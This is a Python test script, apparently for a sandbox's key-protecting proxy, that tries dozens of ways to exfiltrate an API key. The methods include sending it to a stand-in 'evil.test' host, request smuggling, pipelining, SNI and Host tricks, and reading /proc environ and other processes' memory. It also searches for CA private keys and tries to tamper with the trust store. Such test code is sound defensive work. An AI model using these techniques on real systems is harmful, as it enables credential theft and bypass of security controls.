"""Attempts to get at a key that stays outside, or to send it elsewhere, made inside of the sandbox.

Standard library only. Each is a function that does what it can, and returns what came of it. Whether the key
is in that, and what reached the servers, is seen outside.
"""

import base64
import glob
import json
import os
import re
import socket
import ssl
import sys
import urllib.request
from collections.abc import Callable

SCENE = json.loads(sys.argv[1])
PLAIN, TLS = SCENE["plain"], SCENE["tls"]
KEY = os.environ["API_KEY"]  # what we were given for it
BEARER = f"Authorization: Bearer {KEY}"
WAIT_S = 10
ATTEMPTS: dict[str, Callable[[], str]] = {}


def attempt(function: Callable[[], str]) -> Callable[[], str]:
    ATTEMPTS[function.__name__.replace("_", "-")] = function
    return function


def read_all(sock: socket.socket) -> str:
    data = b""
    try:
        while some := sock.recv(65536):
            data += some
    except OSError as exc:
        data += f"[{exc}]".encode()
    return data.decode("latin-1")


def secure(name: str | None = "tls.test", *, alpn: str = "http/1.1") -> ssl.SSLSocket:
    """TLS to the host of the key, with this name in the hello."""
    context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
    context.check_hostname = False
    context.set_alpn_protocols([alpn])
    return context.wrap_socket(socket.create_connection(("tls.test", TLS), WAIT_S), server_hostname=name)


def request(mark: str, *headers: str, host: str = "tls.test", method: str = "GET", end: bool = True) -> bytes:
    lines = (f"{method} {mark} HTTP/1.1", f"Host: {host}", *headers, *(["Connection: close"] if end else []))
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1")


def say(data: bytes, name: str | None = "tls.test", *, alpn: str = "http/1.1") -> str:
    try:
        with secure(name, alpn=alpn) as sock:
            sock.sendall(data)
            return read_all(sock)
    except OSError as exc:
        return f"[{exc}]"


# --- what works


def control_bearer() -> str:
    return say(request("/control-bearer", BEARER))


def control_basic() -> str:
    token = base64.b64encode(f"me:{KEY}".encode()).decode()
    return say(request("/control-basic", f"Authorization: Basic {token}"))


def control_kept_open() -> str:
    return say(request("/control-one", BEARER, end=False) + request("/control-two", BEARER))


def control_body() -> str:
    return say(request("/control-body", BEARER, "Content-Length: 4", method="POST") + b"some")


def control_other() -> str:
    """A host that is allowed and has no key is reached as before."""
    context = ssl.create_default_context(cafile=SCENE["authority"])
    sock = socket.create_connection(("evil.test", TLS), WAIT_S)
    with context.wrap_socket(sock, server_hostname="evil.test") as secured:
        secured.sendall(request("/control-other", host="evil.test"))
        return read_all(secured)


# --- the host says it back


@attempt
def echo_body() -> str:
    return say(request("/echo/body", BEARER))


@attempt
def echo_header() -> str:
    return say(request("/echo/header", BEARER))


@attempt
def echo_reason() -> str:
    return say(request("/echo/reason", BEARER))


@attempt
def echo_split() -> str:
    return say(request("/echo/split", BEARER))


@attempt
def echo_cut() -> str:
    """All of it but the last letter."""
    return say(request("/echo/cut", BEARER))


@attempt
def echo_gzip() -> str:
    return say(request("/echo/gzip", BEARER, "Accept-Encoding: gzip"))


@attempt
def echo_trailer() -> str:
    return say(request("/echo/trailer", BEARER, "TE: trailers"))


@attempt
def echo_base64() -> str:
    token = base64.b64encode(f"me:{KEY}".encode()).decode()
    return say(request("/echo/body", f"Authorization: Basic {token}"))


@attempt
def echo_ranges() -> str:
    """Half of it in one answer, half in the other."""
    whole = say(request("/echo/body", BEARER)).partition("\r\n\r\n")[2]
    middle = whole.index("Bearer") + 20
    parts = [(0, middle), (middle, len(whole))]
    told = ""
    for name in ("Range", "Request-Range"):
        said = [say(request("/echo/body", BEARER, f"{name}: bytes={a}-{b}")) for a, b in parts]
        told += "".join(text.partition("\r\n\r\n")[2] for text in said)
    return told


@attempt
def echo_own_text() -> str:
    """In a header that is no credential."""
    return say(request("/echo/body", f"X-Note: {KEY[:9]}{KEY[9:]}", f"X-{KEY[:6]}: 1"))


# --- it is sent elsewhere


@attempt
def redirect() -> str:
    """urllib keeps its headers."""
    context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
    context.load_verify_locations(SCENE["authority"])
    asked = urllib.request.Request(f"https://tls.test:{TLS}/redirect/https://evil.test:{TLS}/steal")
    asked.add_header("Authorization", f"Bearer {KEY}")
    try:
        with urllib.request.urlopen(asked, context=context, timeout=WAIT_S) as answer:  # noqa: S310 - https
            return str(answer.read())
    except OSError as exc:
        return f"[{exc}]"


@attempt
def other_host() -> str:
    context = ssl.create_default_context(cafile=SCENE["authority"])
    sock = socket.create_connection(("evil.test", TLS), WAIT_S)
    with context.wrap_socket(sock, server_hostname="evil.test") as secured:
        secured.sendall(request("/steal", BEARER, host="evil.test"))
        return read_all(secured)


def plainly(data: bytes, *more: bytes, port: int = PLAIN, host: str = "api.test") -> str:
    with socket.create_connection((host, port), WAIT_S) as sock:
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        try:
            for piece in (data, *more):
                sock.sendall(piece)
            sock.shutdown(socket.SHUT_WR)
        except OSError as exc:
            return f"[{exc}]"
        return read_all(sock)


@attempt
def plain_http() -> str:
    return plainly(request("/plain-stolen", BEARER, host="api.test"))


@attempt
def plain_http_in_pieces() -> str:
    head = request("/plain-pieces", "Content-Length: 100", method="POST", host="api.test")
    return plainly(head, KEY[:5].encode(), KEY[5:].encode(), bytes(100 - len(KEY)))


@attempt
def plain_http_to_the_same_host() -> str:
    return plainly(request("/plain-same", BEARER, host="tls.test"), port=TLS, host="tls.test")


@attempt
def in_url() -> str:
    return say(request(f"/url-stolen?key={KEY}"))


@attempt
def in_url_encoded() -> str:
    return say(request("/url-stolen?key=" + "".join(f"%{ord(char):02x}" for char in KEY)))


@attempt
def in_body() -> str:
    return say(request("/body-stolen", f"Content-Length: {len(KEY)}", method="POST") + KEY.encode())


@attempt
def in_body_in_chunks() -> str:
    chunks = b"".join(b"3\r\n" + KEY[at : at + 3].encode() + b"\r\n" for at in range(0, len(KEY) // 3 * 3, 3))
    rest = KEY[len(KEY) // 3 * 3 :].encode()
    tail = f"{len(rest):x}\r\n".encode() + rest + b"\r\n" if rest else b""
    head = request("/chunks-stolen", "Transfer-Encoding: chunked", method="POST")
    return say(head + chunks + tail + b"0\r\n\r\n")


@attempt
def in_trailer() -> str:
    head = request("/fine-trailer", "Transfer-Encoding: chunked", "Trailer: X-Key", method="POST")
    return say(head + b"2\r\nok\r\n0\r\nX-Key: " + KEY.encode() + b"\r\n\r\n")


@attempt
def in_name_of_header() -> str:
    return say(request("/name-stolen", f"X-{KEY}: 1"))


@attempt
def in_hop_header() -> str:
    return say(request("/fine-hop", "Connection: X-Key, close", f"X-Key: {KEY}", end=False))


# --- another request, host or protocol is meant


@attempt
def pipelined() -> str:
    return say(request("/fine-first", end=False) + request("/second-stolen", BEARER, host="evil.test"))


@attempt
def pipelined_url() -> str:
    return say(request("/fine-first", end=False) + request(f"/second-stolen?{KEY}"))


@attempt
def hidden_in_body() -> str:
    inner = request("/smuggled", BEARER, host="evil.test")
    framing = (f"Content-Length: {len(inner) + 5}", "Transfer-Encoding: chunked")
    return say(request("/two-lengths", *framing, method="POST") + b"0\r\n\r\n" + inner)


@attempt
def fronting() -> str:
    return say(request("/fronted", BEARER, host="evil.test"))


@attempt
def two_hosts() -> str:
    return say(request("/two-hosts", "Host: evil.test", BEARER))


@attempt
def absolute_form() -> str:
    return say(request("https://evil.test/absolute", BEARER))


@attempt
def connect_method() -> str:
    return say(request("evil.test:443", BEARER, method="CONNECT"))


@attempt
def other_server_name() -> str:
    return say(request("/sni", BEARER), "evil.test")


@attempt
def no_server_name() -> str:
    return say(request("/no-sni", BEARER), None)


@attempt
def upgrade() -> str:
    return say(request("/upgraded", BEARER, "Connection: Upgrade", "Upgrade: websocket", end=False))


@attempt
def http2_by_knowledge() -> str:
    return say(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9))


@attempt
def http2_by_offer() -> str:
    context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
    context.set_alpn_protocols(["h2"])
    with context.wrap_socket(socket.create_connection(("tls.test", TLS)), server_hostname="tls.test") as sock:
        return f"got through: {sock.selected_alpn_protocol()}" if sock.selected_alpn_protocol() else "no"


@attempt
def line_in_header() -> str:
    return say(request("/fine-lines", f"X-A: 1\nX-B: {KEY}"))


# --- it is looked for here


@attempt
def environment() -> str:
    return json.dumps(dict(os.environ))


@attempt
def processes() -> str:
    """Everything that the kernel shows of anybody."""
    found = []
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(path, "rb") as file:
                found.append(file.read().decode("latin-1"))
        except OSError as exc:
            found.append(str(exc))
    return "\n".join(found)


@attempt
def memory() -> str:
    """Of every process that we see but ourselves: we never had it."""
    found = []
    for folder in glob.glob("/proc/[0-9]*"):
        if folder.endswith(f"/{os.getpid()}"):
            continue
        try:
            with open(f"{folder}/maps") as maps, open(f"{folder}/mem", "rb", 0) as memory_of:
                for start, stop in re.findall(r"^(\w+)-(\w+) rw", maps.read(), re.MULTILINE):
                    memory_of.seek(int(start, 16))
                    found.append(memory_of.read(int(stop, 16) - int(start, 16)).decode("latin-1"))
        except (OSError, ValueError, OverflowError):
            continue
    return "".join(found)


@attempt
def key_of_the_authority() -> str:
    """Anywhere where we may look."""
    folder = os.path.dirname(os.environ["SSL_CERT_FILE"])
    for path in [*glob.glob(f"{folder}/**"), *glob.glob("/tmp/holdfast*"), *glob.glob("/dev/shm/*")]:
        try:
            with open(path, "rb") as file:
                if b"PRIVATE KEY" in file.read(1 << 22):
                    return f"got through: {path}"
        except OSError:
            continue
    return "no"


@attempt
def file_of_the_key() -> str:
    try:
        with open(SCENE["file"]) as file:
            return f"got through: {file.read()}"
    except OSError as exc:
        return str(exc)


@attempt
def other_trust() -> str:
    """What we are to trust cannot be changed for whoever comes after."""
    try:
        with open(os.environ["SSL_CERT_FILE"], "a") as file:
            file.write("x")
        return "got through"
    except OSError as exc:
        return str(exc)


def main() -> None:
    told = {}
    controls = (control_bearer, control_basic, control_kept_open, control_body, control_other)
    for function in (*controls, *ATTEMPTS.values()):
        try:
            told[function.__name__.replace("_", "-")] = function()
        except Exception as exc:
            told[function.__name__.replace("_", "-")] = f"[{exc!r}]"
    sys.stdout.write(json.dumps(told))


main()
